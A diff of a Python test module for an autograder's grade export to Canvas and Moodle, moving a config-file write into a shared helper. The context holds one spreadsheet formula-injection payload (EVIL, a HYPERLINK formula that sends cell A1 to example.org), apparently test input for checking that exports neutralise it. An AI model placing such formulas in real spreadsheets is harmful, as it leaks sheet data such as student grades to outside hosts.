@@ -17,6 +17,7 @@ from autograder.nbgrader_adapter.course_settings.gradebook import recorded_besid
 from autograder.report.lms.grade_files import Canvas, Moodle, write
 from autograder.report.lms.sheets import LmsStudent, Mark, PartMark, Sheet, Table, one_mark
 from autograder.report.plain_text import cell_text, identifier
+from tests.courses import configure
 
 EXPORTS = "autograder.nbgrader_adapter.exports"
 EVIL = '=HYPERLINK("http://example.org?"&A1)'
@@ -29,8 +30,7 @@ LOGINS = {"ada": 101, "bob": 202, "wei": 303, "cleo": 404, "dan": 505, "eve": 60
 def marked(tmp_path_factory: pytest.TempPathFactory, repository: Path, plan: Assignment) -> Path:
     """Six students: complete, overridden and late, nameless, half graded, absent, Chinese."""
     course = desk(repository, tmp_path_factory.mktemp("course"))
-    with (course / "nbgrader_config.py").open("a", encoding="utf-8") as file:
-        file.write('c.CanvasExporter.assignment_ids = {"attention": 4711}\n')
+    configure(course, 'c.CanvasExporter.assignment_ids = {"attention": 4711}')
     full = {part.id: part.points for part in plan.parts}
     with opened(course) as gradebook:
         with_assignment(gradebook, plan)
